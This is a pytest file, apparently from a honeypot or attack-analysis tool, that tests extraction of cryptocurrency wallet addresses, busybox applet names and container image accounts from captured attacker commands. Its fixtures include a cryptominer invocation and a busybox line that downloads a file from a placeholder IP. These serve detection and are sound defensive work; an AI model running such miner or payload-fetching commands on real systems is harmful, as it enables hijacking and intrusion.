# SPDX-License-Identifier: MIT
"""What a command line or a request names."""

import time

import pytest

from decnet_workers.clusterer.texts.command_text import applets, image_accounts, wallets

MONERO = "4" + "9A" * 47
INTEGRATED = "4" + "9A" * 52 + "b"


@pytest.mark.parametrize(
    ("text", "named"),
    [
        (f"xmrig -u {MONERO}.worker1 -p x", [MONERO]),
        (f"sh s.sh {INTEGRATED}", [INTEGRATED]),
        (f"run --wallet=0x{'aB' * 20}", [f"0x{'aB' * 20}"]),
        ("pool bc1qw508d6qejxtdg4y5r3zarvary0c5xw7kv8f3t4", ["bc1qw508d6qejxtdg4y5r3zarvary0c5xw7kv8f3t4"]),
        (f"sha256sum {'4' * 64}", []),
        (f"x{MONERO}", []),
    ],
)
def test_wallets(text: str, named: list[str]) -> None:
    assert wallets(text) == named


def test_applets_and_accounts_of_images() -> None:
    assert applets("/bin/busybox KIVI; /bin/busybox wget http://192.0.2.1/x") == ["KIVI"]
    assert image_accounts('{"Image": "mine/run:1", "Cmd": ["sh"]}') == ["mine"]
    assert image_accounts('{"Image":"ghcr.io/mine/run"}') == ["ghcr.io/mine"]
    assert image_accounts('{"Image":"192.0.2.7:5000/run"}') == ["192.0.2.7:5000"]
    assert image_accounts('{"Image":"localhost.example/run"}') == ["localhost.example"]


@pytest.mark.parametrize(
    "image",
    [
        "alpine",
        "library/alpine",
        "docker.io/alpine",
        "docker.io/library/alpine:3.20",
        "localhost:5000/mine/run",
        "127.0.0.1/run",
    ],
)
def test_official_images_are_nobodys_however_their_registry_is_named(image: str) -> None:
    assert image_accounts(f'{{"Image": "{image}"}}') == []
    assert image_accounts('{"Image": "docker.io/mine/run"}') == image_accounts('{"Image": "mine/run"}')


@pytest.mark.parametrize("text", ["busybox " * 500, "4" * 9000, '"Image":"' * 900])
def test_no_text_takes_long(text: str) -> None:
    start = time.process_time()
    for read in (wallets, applets, image_accounts):
        read(text)
    assert time.process_time() - start < 0.02
